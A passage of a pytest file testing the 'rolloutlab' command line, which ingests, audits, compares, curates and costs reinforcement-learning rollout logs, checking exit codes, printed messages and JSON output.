"""The command line: exit codes, printed counts, --json, the demo."""
from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from rolloutlab import config
from rolloutlab.cli import main
from conftest import FIXTURES

GOOD = str(FIXTURES / "native" / "good.jsonl")
BAD = str(FIXTURES / "native" / "bad.jsonl")


def test_ingest_prints_counts_and_first_reasons(db_path, capsys):
    assert main(["ingest", BAD, "--db", str(db_path)]) == 0
    out = capsys.readouterr().out
    assert "17 records, 3 loaded, 14 rejected: run base\n" in out
    assert "\n    line 2: field 'score' must be a number" in out  # under the file's line: its path said once
    assert out.count(f"{BAD}:") == 1 and out.count("\n    line ") == 5  # the file line, then its first five reasons
    assert main(["ingest", BAD, "--db", str(db_path)]) == 0
    assert "unchanged" in capsys.readouterr().out


def test_rejects_command(db_path, capsys):
    assert main(["ingest", BAD, "--db", str(db_path)]) == 0
    assert "rolloutlab rejects --source 1 --limit 0" in capsys.readouterr().out
    assert main(["rejects", "--db", str(db_path), "--limit", "3"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out == [f"{FIXTURES / 'native' / 'bad.jsonl'}:2: field 'score' must be a number, got string \"abc\"",
                   f"{FIXTURES / 'native' / 'bad.jsonl'}:3: invalid JSON: fix the line or remove it",
                   f"{FIXTURES / 'native' / 'bad.jsonl'}:4: missing required field 'run' (or pass --run LABEL)",
                   "(first 3; --limit 0 for all)"]
    assert main(["rejects", "--db", str(db_path), "--run", "base", "--json", "--limit", "0"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert len(rows) == 14 and rows[-1]["line_no"] == 18
    assert main(["rejects", "--db", str(db_path), "--run", "nope"]) == 2
    assert "run 'nope' not found" in capsys.readouterr().err


def test_a_loader_defect_is_no_traceback(db_path, capsys, monkeypatch):
    """A file that breaks a loader: exit 1, the file named, what to do; nothing of it written."""
    from rolloutlab.ingest.formats import native

    assert main(["ingest", GOOD, "--db", str(db_path)]) == 0
    capsys.readouterr()

    def broken(ctx):
        raise KeyError("surprise")

    monkeypatch.setattr(native, "load", broken)
    assert main(["ingest", BAD, "--db", str(db_path)]) == 1
    out, err = capsys.readouterr()
    assert f"{BAD}: failed" in out and "\n    could not be loaded (KeyError: 'surprise')" in out
    assert "report it" in out and "Traceback" not in out + err
    assert main(["runs", "--db", str(db_path), "--json"]) == 0
    assert sum(r["rollouts"] for r in json.loads(capsys.readouterr().out)) == 4


def test_ingest_exits_non_zero_when_nothing_loads(db_path, tmp_path, capsys):
    junk = tmp_path / "junk.jsonl"
    junk.write_text("not json\n{also not\n")
    assert main(["ingest", str(junk), "--db", str(db_path), "--format", "native"]) == 1
    assert "0 loaded, 2 rejected" in capsys.readouterr().out


def test_ingest_json_and_runs_json(db_path, capsys):
    assert main(["ingest", GOOD, "--db", str(db_path), "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result[0]["loaded"] == 4 and result[0]["action"] == "loaded"
    assert main(["runs", "--db", str(db_path), "--json"]) == 0
    runs = json.loads(capsys.readouterr().out)
    # label base: records of split 'valid' and records naming none, two runs
    assert [(r["run"], r["label"], r["rollouts"]) for r in runs] == [("base", "base", 2), ("base-valid", "base", 1),
                                                                     ("step10", "step10", 1)]


def test_missing_database_and_missing_path(tmp_path, capsys):
    assert main(["runs", "--db", str(tmp_path / "none.duckdb")]) == 2
    assert "No database at" in capsys.readouterr().err
    assert main(["ingest", str(tmp_path / "nope.jsonl"), "--db", str(tmp_path / "x.duckdb")]) == 2
    assert "no such file or folder" in capsys.readouterr().err


def test_locked_database_message(db_path):
    main(["ingest", GOOD, "--db", str(db_path)])
    holder = subprocess.Popen([sys.executable, "-c", f"import duckdb, time; c = duckdb.connect({str(db_path)!r}); "
                               "print('ready', flush=True); time.sleep(60)"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "ready"
        proc = subprocess.run([sys.executable, "-m", "rolloutlab.cli", "ingest", BAD, "--db", str(db_path)],
                              capture_output=True, text=True, env={**os.environ, "ROLLOUTLAB_WRITER_WAIT_S": "0.5"})
        assert proc.returncode == 2
        assert "is in use by" in proc.stderr and f"PID {holder.pid}" in proc.stderr
        assert "Traceback" not in proc.stderr
    finally:
        holder.kill()
        holder.wait()


def test_synth_and_demo(tmp_path, capsys):
    assert main(["synth", "--out", str(tmp_path / "s"), "--samples", "5", "--attempts", "2",
                 "--checkpoints", "base,step2,step4"]) == 0
    assert sorted(p.name for p in (tmp_path / "s").iterdir()) == ["base.jsonl", "step2.jsonl", "step4.jsonl"]
    assert len((tmp_path / "s" / "step2.jsonl").read_text().splitlines()) == 10
    capsys.readouterr()
    assert main(["demo", "--db", str(tmp_path / "demo.duckdb"), "--out", str(tmp_path / "demo"),
                 "--report", str(tmp_path / "demo.html")]) == 0
    assert (tmp_path / "demo.html").stat().st_size > 1_000_000
    out = capsys.readouterr().out
    assert "600 records, 600 loaded, 0 rejected" in out and "synthetic demo logs" in out
    assert "step10" in out and "train-step10" in out and "rft-endpoint" in out
    # the demo drove rollouts against the demo tool server and loaded what it captured
    assert "captured/endpoint-events.jsonl: loaded (rft-endpoint)" in out and "a step of 64 x 4 = 256 rollouts" in out
    assert main(["capacity", "--db", str(tmp_path / "demo.duckdb"), "--run", config.DEMO_SERVER_RUN, "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["tool"] for r in rows][0] == "(all)"
    assert {r["tool"] for r in rows} == {"(all)", "search", "list", "cat", "(grader)"}  # the grader endpoint too
    assert main(["synth", "--out", str(tmp_path / "ep"), "--samples", "4", "--format", "rft-endpoint"]) == 0
    assert sorted(p.name for p in (tmp_path / "ep").iterdir()) == [
        "ftjob-synthetic-events.jsonl", "grade-events.jsonl", "samples.jsonl", "tool-events-0.jsonl",
        "tool-events-1.jsonl"]


def test_summary_and_check(db_path, tmp_path, capsys):
    from conftest import rollout, write_jsonl

    path = write_jsonl(tmp_path / "z.jsonl", [rollout("zero", f"s{i}", 0.0) for i in range(12)]
                       + [rollout("ok", f"s{i}", float(i % 2), ["search"]) for i in range(12)])
    main(["ingest", str(path), "--db", str(db_path)])
    capsys.readouterr()
    assert main(["summary", "--db", str(db_path), "--run", "ok", "--json"]) == 0
    [row] = json.loads(capsys.readouterr().out)
    assert row["run"] == "ok" and row["mean_score"] == 0.5 and row["pass_at_1"] == 0.5
    assert main(["summary", "--db", str(db_path)]) == 0
    out = capsys.readouterr().out
    assert "mean_score" in out and "zero" in out
    assert main(["check", "--db", str(db_path), "--run", "zero"]) == 1  # baseline_nonzero fails
    assert "FAIL  baseline_nonzero" in capsys.readouterr().out
    assert main(["check", "--db", str(db_path), "--run", "ok", "--json", "--tool-budget", "0"]) == 0
    checks = {c["check"]: c for c in json.loads(capsys.readouterr().out)}
    assert checks["tool_budget"]["status"] == "warn" and checks["tool_budget"]["value"] == 1.0
    assert main(["check", "--db", str(db_path), "--run", "nope"]) == 2
    assert "run 'nope' not found" in capsys.readouterr().err


def test_compare_table_and_json(db_path, tmp_path, capsys):
    from conftest import rollout, write_jsonl

    records = [rollout("b", f"s{i}", 0.0, ["search"] * 4) for i in range(10)]
    records += [rollout("c", f"s{i}", 1.0, ["search"]) for i in range(10)] + [rollout("c", "extra", 1.0)]
    main(["ingest", str(write_jsonl(tmp_path / "c.jsonl", records)), "--db", str(db_path)])
    capsys.readouterr()
    assert main(["compare", "--db", str(db_path), "--base", "b", "--candidate", "c", "--n-boot", "200"]) == 0
    out = capsys.readouterr().out
    assert "b -> c: 10 shared samples (only in b: 0, only in c: 1)" in out
    assert "10 wins, 0 ties, 0 losses" in out
    score_line = next(line for line in out.splitlines() if line.strip().startswith("score"))
    assert score_line.strip().startswith("score (mean of per-sample means)")
    assert score_line.split()[-2:] == ["*", "primary"]
    assert "score, the primary metric, tested alone (p ≤ 0.05, two-sided, clustered t-test" in out
    assert main(["compare", "--db", str(db_path), "--base", "b", "--candidate", "c", "--json", "--n-boot", "100"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["decision"]["primary"] == "score" and doc["decision"]["alpha"] == 0.05
    # one attempt of 0/1 scores: pass@1 and best of n are the score, sample by sample
    assert doc["decision"]["adjustment"] == "holm" and doc["decision"]["duplicates"] == ["pass@1", "best_of_n"]
    assert main(["compare", "--db", str(db_path), "--base", "b", "--candidate", "c", "--json", "--n-boot", "100",
                 "--primary", "tool_calls_per_rollout"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["decision"]["primary"] == "tool_calls_per_rollout"
    assert next(m for m in doc["metrics"] if m["metric"] == "score")["family"] == "secondary"
    assert doc["samples"] == {"shared": 10, "base_only": 0, "candidate_only": 1, "unscored": 0}
    assert doc["win_tie_loss"] == {"wins": 10, "ties": 0, "losses": 0}
    score = next(m for m in doc["metrics"] if m["metric"] == "score")
    assert (score["base"], score["candidate"], score["diff"], score["significant"]) == (0.0, 1.0, 1.0, True)
    assert [m["metric"] for m in doc["metrics"]][-2:] == ["latency_p50", "latency_p95"]


def test_audit(tmp_path, capsys):
    from rolloutlab.demo import synth

    paths, planted = synth.write_judged(tmp_path / "logs", samples=60, attempts=3, seed=2, hack_rate=0.05)
    db = str(tmp_path / "a.duckdb")
    assert main(["ingest", "--db", db, *map(str, paths)]) == 0
    capsys.readouterr()
    assert main(["audit", "--db", db, "--run", "step10", "--base", "base", "--json", "--limit", "0"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["rank"] for r in rows] == list(range(1, len(rows) + 1)) and len(rows) >= 10
    assert sum(r["rollout_id"] in planted for r in rows) >= 0.8 * len(rows)
    assert main(["audit", "--db", db, "--run", "step10", "--limit", "3"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("1. ") and "\n3. " in out and "--limit 0 for all" in out
    assert main(["audit", "--db", db, "--run", "nope"]) == 2  # a usage error: names the loaded runs


def test_capacity(db_path, tmp_path, capsys):
    from conftest import write_jsonl
    from test_capacity import OBSERVED

    assert main(["ingest", "--db", str(db_path), str(write_jsonl(tmp_path / "obs.jsonl", OBSERVED))]) == 0
    capsys.readouterr()
    assert main(["capacity", "--db", str(db_path), "--run", "obs", "--batch-size", "30", "--compute-multiplier", "2"]) == 0
    out = capsys.readouterr().out
    assert "projected_peak_calls_in_flight" in out and "a step of 60 rollouts" in out
    assert main(["capacity", "--db", str(db_path), "--run", "obs", "--json"]) == 0
    rows = {r["tool"]: r for r in json.loads(capsys.readouterr().out)}
    assert rows["search"]["peak_calls_in_flight"] == 2 and "projected_peak_calls_in_flight" not in rows["search"]
    assert main(["capacity", "--db", str(db_path), "--run", "obs", "--compute-multiplier", "2"]) == 2
    assert main(["capacity", "--db", str(db_path), "--run", "nope"]) == 2


def test_export_and_ingest_a_lake(db_path, tmp_path, capsys):
    from conftest import write_jsonl
    from test_capacity import OBSERVED

    assert main(["ingest", "--db", str(db_path), str(write_jsonl(tmp_path / "obs.jsonl", OBSERVED))]) == 0
    capsys.readouterr()
    assert main(["export", "--db", str(db_path), "--to", str(tmp_path / "lake")]) == 0
    out = capsys.readouterr().out
    assert "rollouts: 3 rows (partitioned by run)" in out and "tool_calls: 5 rows" in out
    assert main(["export", "--db", str(db_path), "--to", str(tmp_path / "lake")]) == 2  # not over a lake
    assert main(["ingest", "--db", str(tmp_path / "back.duckdb"), str(tmp_path / "lake")]) == 0
    assert "obs.jsonl: loaded (native) - 3 records, 3 loaded, 0 rejected" in capsys.readouterr().out
    assert main(["summary", "--db", str(tmp_path / "back.duckdb"), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["rollouts"] == 3


def test_output_cut_short_by_a_closed_pipe_is_no_error(db_path, tmp_path):
    # `rolloutlab rejects | head -1`: the reader leaves after one line; no error, no traceback.
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"run": "r", "sample_id": "s", "score": "high"}\n' * 5000)
    assert main(["ingest", str(bad), "--db", str(db_path)]) == 1
    proc = subprocess.Popen([sys.executable, "-m", "rolloutlab.cli", "rejects", "--db", str(db_path), "--limit", "0"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    first = proc.stdout.readline()
    proc.stdout.close()  # as head -1 does
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 0 and b"field 'score' must be a number" in first
    assert err == "", err


def test_ingest_with_a_run_label_on_an_unchanged_file_says_it_was_not_applied(db_path, capsys):
    assert main(["ingest", GOOD, "--db", str(db_path)]) == 0
    assert main(["ingest", GOOD, "--db", str(db_path), "--run", "B"]) == 0
    assert "--run 'B' was not applied" in capsys.readouterr().out


def test_demo_server_beyond_loopback_needs_a_token(capsys, monkeypatch):
    monkeypatch.delenv("ROLLOUTLAB_DEMO_TOKEN", raising=False)
    assert main(["demo-server", "--host", "0.0.0.0", "--port", "1"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and "without a bearer token: pass --token TOKEN" in err and "Traceback" not in err


def test_ingest_of_an_empty_folder_says_what_it_looked_for(tmp_path, capsys):
    """A folder without log files: exit 1, saying so, the hidden files it skipped, and every
    format and file type ingest reads (not just "total: 0 records")."""
    from rolloutlab.ingest.formats import FORMATS

    folder = tmp_path / "logs"
    (folder / ".cache").mkdir(parents=True)
    (folder / ".gitkeep").write_text("")
    (folder / ".cache" / "old.jsonl").write_text('{"run": "r", "sample_id": "s", "score": 1}\n')
    assert main(["ingest", str(folder), "--db", str(tmp_path / "e.duckdb")]) == 1
    out, err = capsys.readouterr()
    assert "total: 0 records" not in out
    assert f"no log files in {folder}" in err and "other than 2 hidden one(s)" in err
    for looked_for in [*FORMATS, ".jsonl", ".json", ".eval", ".parquet", "rolloutlab-lake.json", "docs/formats.md"]:
        assert looked_for in err, looked_for
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["ingest", str(empty), "--db", str(tmp_path / "e.duckdb"), "--json"]) == 1
    out, err = capsys.readouterr()
    assert json.loads(out) == [] and f"no log files in {empty}: the folder holds no files at all" in err


def test_printed_numbers_read_as_people_read_them(db_path, tmp_path, capsys):
    """summary, check, compare and capacity print 3 significant digits, separators, shares as
    percentages and p < 0.001; --json keeps every value whole."""
    import re

    from conftest import rollout, write_jsonl
    from test_capacity import OBSERVED

    records = [rollout("b", f"s{i}", float(i % 4 == 1), ["search"] * 3, usage={"input_tokens": 40_040 + i % 2 * 2},
                       status="infra_error" if i == 0 else "ok") for i in range(40)]
    records += [rollout("c", f"s{i}", 1.0, ["search"], usage={"input_tokens": 6_001}) for i in range(40)]
    main(["ingest", "--db", str(db_path), str(write_jsonl(tmp_path / "n.jsonl", records)),
          str(write_jsonl(tmp_path / "obs.jsonl", OBSERVED))])
    capsys.readouterr()
    scientific = re.compile(r"\d[eE][+-]\d")
    # b: 39 counted rollouts (s0 was an infra error); 10 pass (i = 1, 5, ... 37); 20 odd ones have
    # 40,042 tokens, 19 even ones 40,040
    tokens = (20 * 40_042 + 19 * 40_040) / 39

    assert main(["summary", "--db", str(db_path), "--run", "b"]) == 0
    out = capsys.readouterr().out
    rows = {line.split()[0]: line.split()[1:] for line in out.splitlines() if line.strip()}
    assert rows["input_tokens_mean"] == [f"{tokens:,.0f}"] == ["40,041"]
    assert rows["pass_at_1"] == [f"{100 * 10 / 39:.1f}%"] == ["25.6%"] and rows["n_infra_error"] == ["1"]
    assert not scientific.search(out)
    assert main(["summary", "--db", str(db_path), "--run", "b", "--json"]) == 0
    [row] = json.loads(capsys.readouterr().out)
    assert row["input_tokens_mean"] == pytest.approx(tokens, abs=1e-6)
    assert row["pass_at_1"] == pytest.approx(10 / 39, abs=1e-10)

    assert main(["check", "--db", str(db_path), "--run", "b"]) == 0  # 1 of 40 infra errors: a warning
    out = capsys.readouterr().out
    assert "WARN  infra_errors (2.5%)" in out and "(0.025)" not in out

    assert main(["compare", "--db", str(db_path), "--base", "b", "--candidate", "c", "--n-boot", "2000"]) == 0
    out = capsys.readouterr().out
    score = next(line for line in out.splitlines() if line.strip().startswith("score")).split("means)")[1].split()
    # paired over 39 samples: 0.256 -> 1, 29 gains and no loss: the t-test p reads < 0.001
    assert score[:3] == [f"{10 / 39:.3g}", "1", f"+{29 / 39:.3g}"] and score[-4:] == ["<", "0.001", "*", "primary"]
    tokens_line = next(line for line in out.splitlines() if line.strip().startswith("tokens_per_rollout")).split()
    assert tokens_line[1:4] == ["40,041", "6,001", f"{6_001 - tokens:,.0f}"] and not scientific.search(out)

    assert main(["capacity", "--db", str(db_path), "--run", "obs"]) == 0
    out = capsys.readouterr().out
    line = next(line for line in out.splitlines() if line.split()[:1] == ["(all)"]).split()
    assert line[1:3] == ["5", f"{5 / 3:.3g}"]  # calls, calls per rollout: 1.67, not 1.667


# ---- curate, power, labels, cost, tokens, truncation, failure-modes -----------------------------

@pytest.fixture(scope="module")
def judged_db(tmp_path_factory):
    """base and step10 (synthetic, judged; base is a validation split), ingested by the CLI once
    for the tests below; a test that writes copies it."""
    from rolloutlab.demo import synth

    folder = tmp_path_factory.mktemp("judged")
    paths, _ = synth.write_judged(folder / "logs", samples=30, attempts=3, seed=3, hack_rate=0.05)
    db = folder / "j.duckdb"
    assert main(["ingest", "--db", str(db), *map(str, paths)]) == 0
    return db


def _lib(db, fn):
    """``fn(con)`` on the database, read-only (what the command computed, from the library)."""
    from rolloutlab import store

    con = store.connect(db, read_only=True)
    try:
        return fn(con)
    finally:
        con.close()


def _verdict_counts(out: str) -> dict:
    from rolloutlab.analysis.curation import VERDICTS

    rows = [line.split() for line in out.splitlines()]
    return {r[0]: int(r[1].replace(",", "")) for r in rows if len(r) == 3 and r[0] in VERDICTS}


def test_curate_formats_are_the_datasets_formats():
    from rolloutlab.cli import CURATE_FORMATS
    from rolloutlab.exports.training_files import EXPORT_FORMATS

    assert CURATE_FORMATS == EXPORT_FORMATS


def test_curate_prints_the_verdicts_of_rl_curate(judged_db, capsys):
    from rolloutlab.analysis.curation import curate

    expected = _lib(judged_db, lambda con: curate(con, "step10", band=(0.2, 0.9), min_attempts=3,
                                                  keep_validation=False))
    capsys.readouterr()
    assert main(["curate", "--db", str(judged_db), "--run", "step10", "--band", "0.2", "0.9", "--min-attempts", "3",
                 "--limit", "4", "--no-keep-validation"]) == 0
    out = capsys.readouterr().out
    assert _verdict_counts(out) == expected.attrs["counts"] and expected.attrs["counts"]["keep"] > 0
    assert f"step10: {len(expected)} samples (keep: 20%-90% pass rate, at least 3 attempts)" in out
    a = expected.attrs["splits"]
    assert f"kept: {a['train']} train, {a['validation']} validation" in out
    shown = [line.split()[0] for line in out.splitlines() if line.startswith(tuple(expected.sample_id))]
    assert shown == list(expected.sample_id[:4]) and f"(first 4 of {len(expected)}; --limit 0 for all)" in out
    assert main(["curate", "--db", str(judged_db), "--run", "step10", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    default = _lib(judged_db, lambda con: curate(con, "step10"))
    assert [r["verdict"] for r in rows] == list(default.verdict)


def test_curate_writes_the_training_files(judged_db, tmp_path, capsys):
    import pandas as pd

    from rolloutlab.analysis.curation import curate

    expected = _lib(judged_db, lambda con: curate(con, "step10", validation_share=0.25, seed=1,
                                                  keep_validation=False))
    kept = expected[expected.verdict == "keep"]
    out_dir = tmp_path / "rft"
    capsys.readouterr()
    assert main(["curate", "--db", str(judged_db), "--run", "step10", "--validation-share", "0.25", "--seed", "1",
                 "--no-keep-validation", "--out", str(out_dir), "--to", "openai-rft"]) == 0
    out, err = capsys.readouterr()
    assert _verdict_counts(out) == expected.attrs["counts"]
    train, validation = (out_dir / "train.jsonl"), (out_dir / "validation.jsonl")
    n_train, n_val = (int((kept.split == s).sum()) for s in ("train", "validation"))
    assert n_train > 0 and n_val > 0
    assert len(train.read_text().splitlines()) == n_train and len(validation.read_text().splitlines()) == n_val
    manifest = json.loads((out_dir / "curation.json").read_text())
    assert manifest["counts"] == expected.attrs["counts"] and manifest["exported"] == {"train": n_train,
                                                                                      "validation": n_val}
    assert f"wrote {train} ({n_train} train samples" in out and f"wrote {out_dir / 'curation.json'}" in out
    assert err == ""
    # verl: Parquet, the same split
    assert main(["curate", "--db", str(judged_db), "--run", "step10", "--out", str(tmp_path / "verl"),
                 "--to", "verl", "--no-keep-validation", "--validation-share", "0.25", "--seed", "1"]) == 0
    capsys.readouterr()
    manifest = json.loads((tmp_path / "verl" / "curation.json").read_text())
    assert len(pd.read_parquet(tmp_path / "verl" / "validation.parquet")) == manifest["exported"]["validation"] == n_val
    # by default the samples base evaluates on its validation split stay in validation: every kept
    # one here, so nothing to train on — said, with what would give a training split, nothing written
    assert main(["curate", "--db", str(judged_db), "--run", "step10", "--out", str(tmp_path / "none"),
                 "--to", "verl"]) == 2
    assert "nothing to train on, so nothing was written" in capsys.readouterr().err
    assert not (tmp_path / "none").exists()
    assert main(["curate", "--db", str(judged_db), "--run", "step10"]) == 1
    assert "nothing to train on: All" in capsys.readouterr().out
    # --to without --out; an unknown run
    assert main(["curate", "--db", str(judged_db), "--run", "step10", "--to", "trl"]) == 2
    assert "add --out DIR" in capsys.readouterr().err
    assert main(["curate", "--db", str(judged_db), "--run", "nope"]) == 2
    assert "run 'nope' not found" in capsys.readouterr().err


def test_power_prints_the_library_mde_and_sentences(judged_db, capsys):
    from rolloutlab.analysis.power_analysis import advice, detectable_sentence, power, size

    lib = _lib(judged_db, lambda con: power(con, "base", "step10", delta=0.1))
    capsys.readouterr()
    assert main(["power", "--db", str(judged_db), "--base", "base", "--candidate", "step10", "--delta", "0.1"]) == 0
    out = capsys.readouterr().out
    now = next(line for line in out.splitlines() if line.rstrip().endswith("<- now")).split()
    assert "±" + size(lib.attrs["mde"], "score") in now
    assert detectable_sentence(lib) in out
    text = advice(lib)
    assert text and (text[0].upper() + text[1:] + ".") in out
    assert main(["power", "--db", str(judged_db), "--base", "base", "--metric", "pass@1", "--alpha", "0.1",
                 "--power", "0.9", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    lib = _lib(judged_db, lambda con: power(con, "base", metric="pass@1", alpha=0.1, power=0.9))
    assert doc["mde"] == pytest.approx(lib.attrs["mde"], rel=1e-9) and doc["correlation_source"] == "assumed"
    assert [d["attempts"] for d in doc["designs"]] == pytest.approx(list(lib.attempts))
    assert main(["power", "--db", str(judged_db), "--base", "nope"]) == 2


def test_power_refuses_a_delta_off_the_scale_and_says_why_without_variance(db_path, tmp_path, capsys):
    from conftest import rollout, write_jsonl

    records = [rollout("flat", f"s{i}", 0.7) for i in range(20) for _ in range(2)]
    records += [rollout("v", f"s{i}", float(i % 2)) for i in range(20)]
    main(["ingest", str(write_jsonl(tmp_path / "p.jsonl", records)), "--db", str(db_path)])
    capsys.readouterr()
    assert main(["power", "--db", str(db_path), "--base", "v", "--delta", "5"]) == 2
    err = capsys.readouterr().err
    assert "delta=5 cannot be a difference in score" in err and "between −1 and +1" in err
    assert main(["power", "--db", str(db_path), "--base", "flat", "--delta", "0.1"]) == 0
    out = capsys.readouterr().out
    assert out.strip() == ("No estimate of the differences this comparison could detect: every counted rollout of "
                           "flat has the same score (0.7), so no variance is observed and any sample size would be a "
                           "guess.")
    assert main(["power", "--db", str(db_path), "--base", "flat", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["mde"] is None and doc["no_estimate"].startswith("No estimate") and "tested alone" in doc["decision"]
    assert main(["power", "--db", str(db_path), "--base", "v"]) == 0
    assert "Planned for the verdict's test: score tested alone, two-sided at α = 0.05" in capsys.readouterr().out


def test_labels_sample_import_export(judged_db, tmp_path, capsys):
    import csv
    import shutil

    from rolloutlab.analysis.labelling import labelling_sample

    db = tmp_path / "l.duckdb"
    shutil.copy(judged_db, db)
    expected = _lib(db, lambda con: labelling_sample(con, "step10", n=5, seed=7))
    capsys.readouterr()
    sheet = tmp_path / "sheet.csv"
    assert main(["labels", "sample", "--db", str(db), "--run", "step10", "--n", "5", "--seed", "7",
                 "--out", str(sheet)]) == 0
    assert f"rolloutlab labels import {sheet} --who NAME" in capsys.readouterr().out
    rows = list(csv.DictReader(sheet.open()))
    assert [r["rollout_id"] for r in rows] == list(expected.rollout_id) and "value" in rows[0]
    rows[0]["value"], rows[1]["value"], rows[1]["note"] = "pass", "0.25", "half right"
    with sheet.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows[:2])
    assert main(["labels", "import", str(sheet), "--db", str(db), "--who", "ann"]) == 0
    assert f"{sheet}: 2 records, 2 labels loaded, 0 already stored, 0 rejected" in capsys.readouterr().out
    exported = tmp_path / "labels.jsonl"
    assert main(["labels", "export", "--db", str(db), "--out", str(exported), "--run", "step10"]) == 0
    assert f"wrote {exported}: 2 labels of step10's rollouts" in capsys.readouterr().out
    records = [json.loads(line) for line in exported.read_text().splitlines()]
    assert sorted((r["rollout_id"], r["value"], r["who"]) for r in records) == sorted([
        (rows[0]["rollout_id"], 1.0, "ann"), (rows[1]["rollout_id"], 0.25, "ann")])  # one time: by rollout id
    # the exported file carries its times: importing it again adds nothing
    assert main(["labels", "import", str(exported), "--db", str(db)]) == 0
    assert "0 labels loaded, 2 already stored" in capsys.readouterr().out
    # labelled rollouts are not drawn again
    assert main(["labels", "sample", "--db", str(db), "--run", "step10", "--n", "5", "--seed", "7", "--json"]) == 0
    again = {r["rollout_id"] for r in json.loads(capsys.readouterr().out)}
    assert not again & {rows[0]["rollout_id"], rows[1]["rollout_id"]}
    # nothing readable: exit 1; no database: exit 2 and none created
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"rollout_id": "x"}\nnot json\n')
    assert main(["labels", "import", str(bad), "--db", str(db)]) == 1
    assert "2 rejected" in capsys.readouterr().out
    assert main(["labels", "import", str(sheet), "--db", str(tmp_path / "none.duckdb")]) == 2
    assert "No database at" in capsys.readouterr().err and not (tmp_path / "none.duckdb").exists()


PRICES_TOML = """
[models."m-a"]
input = 2.0
cached_input = 0.5
output = 8.0
reasoning = 10.0

[models."ft:m-b"]
input = 1.0
output = 4.0
"""


def test_cost_tokens_truncation(db_path, tmp_path, capsys):
    from conftest import write_jsonl
    from test_cost import RUN_A, rec, usage

    from rolloutlab.text import fmt

    mystery = [rec("m", "mystery-model", f"s{i}", 1.0, usage(1000, 100)) for i in range(3)]
    assert main(["ingest", "--db", str(db_path), str(write_jsonl(tmp_path / "c.jsonl", RUN_A + mystery))]) == 0
    prices = tmp_path / "prices.toml"
    prices.write_text(PRICES_TOML)
    capsys.readouterr()
    assert main(["cost", "--db", str(db_path), "--prices", str(prices)]) == 0
    out, err = capsys.readouterr()
    rows = {line.split()[0]: line.split()[1:] for line in out.splitlines() if line.strip()}
    # run a, by hand (tests/analysis/test_cost.py): 0.0048 + 0.0044 + 0.1 + 0.007; m: no price, no cost (never 0)
    assert rows["metric"] == ["a", "m"] and rows["cost_total"] == [fmt.dollars(0.1162), "—"]
    assert rows["n_excluded"] == ["1", "0"] and rows["cost_coverage"] == ["100%", "0%"]
    assert err.count("no price for model 'mystery-model'") == 1 and "--prices FILE" in err
    assert "Platform training fees" in out
    assert main(["cost", "--db", str(db_path), "--run", "a", "--by", "sample", "--prices", str(prices),
                 "--json"]) == 0
    samples = {r["sample_id"]: r["cost_usd"] for r in json.loads(capsys.readouterr().out)}
    assert samples == pytest.approx({"s1": 0.0048 + 0.0044, "s2": 0.107})
    assert main(["cost", "--db", str(db_path), "--run", "nope"]) == 2

    assert main(["tokens", "--db", str(db_path), "--run", "a"]) == 0
    rows = {line.split()[0]: line.split()[1:] for line in capsys.readouterr().out.splitlines() if line.strip()}
    # counted rollouts of a: 1000+100+200, 2000+50, 500+10, 3000+0+100 tokens
    assert rows["total_tokens"] == [f"{1300 + 2050 + 510 + 3100:,}"] and rows["rollouts"] == ["4"]
    assert main(["tokens", "--db", str(db_path), "--run", "a", "--by", "tool"]) == 0
    out = capsys.readouterr().out
    cat = next(line for line in out.splitlines() if line.split()[1:2] == ["cat"]).split()
    assert cat[2:3] == ["3"] and "tool output in characters" in out

    assert main(["truncation", "--db", str(db_path), "--run", "a"]) == 0
    rows = {line.split()[0]: line.split()[1:] for line in capsys.readouterr().out.splitlines() if line.strip()}
    assert rows["truncated"] == ["1"] and rows["truncated_share"] == ["25%"] and rows["length"] == ["1"]
    assert main(["truncation", "--db", str(db_path), "--by", "step", "--json"]) == 0
    assert {r["run"]: r["truncated"] for r in json.loads(capsys.readouterr().out)} == {"a": 1, "m": 0}


def test_capacity_with_steps_prints_the_job_cost(judged_db, capsys):
    from rolloutlab.text import fmt
    from rolloutlab.analysis.metrics import job_cost

    lib = _lib(judged_db, lambda con: job_cost(con, "step10", samples=8, compute_multiplier=2, steps=5))
    capsys.readouterr()
    assert main(["capacity", "--db", str(judged_db), "--run", "step10", "--batch-size", "8",
                 "--compute-multiplier", "2", "--steps", "5"]) == 0
    out = capsys.readouterr().out
    assert "a step of 16 rollouts" in out and "a job of 5 step(s) x 16 rollouts" in out
    job = next(line for line in out.splitlines() if line.split()[:1] == ["job"]).split()
    assert job[1:3] == ["80", fmt.dollars(lib.cost_usd.iloc[2])]
    assert "Platform training fees (RFT bills training time per hour) and model-grader tokens are not included" in out
    assert main(["capacity", "--db", str(judged_db), "--run", "step10", "--steps", "5", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert [r["scope"] for r in doc["job_cost"]] == ["rollout", "step", "job"] and doc["capacity"][0]["tool"] == "(all)"
    assert main(["capacity", "--db", str(judged_db), "--run", "step10", "--prices", "p.toml"]) == 2


def test_failure_modes_and_their_diff(judged_db, capsys):
    from rolloutlab.analysis.failure_modes import VERDICTS, failure_modes, failure_modes_diff

    lib = _lib(judged_db, lambda con: failure_modes(con, "step10", seed=1, n_boot=200))
    capsys.readouterr()
    assert main(["failure-modes", "--db", str(judged_db), "--run", "step10", "--seed", "1", "--n-boot", "200",
                 "--examples", "2"]) == 0
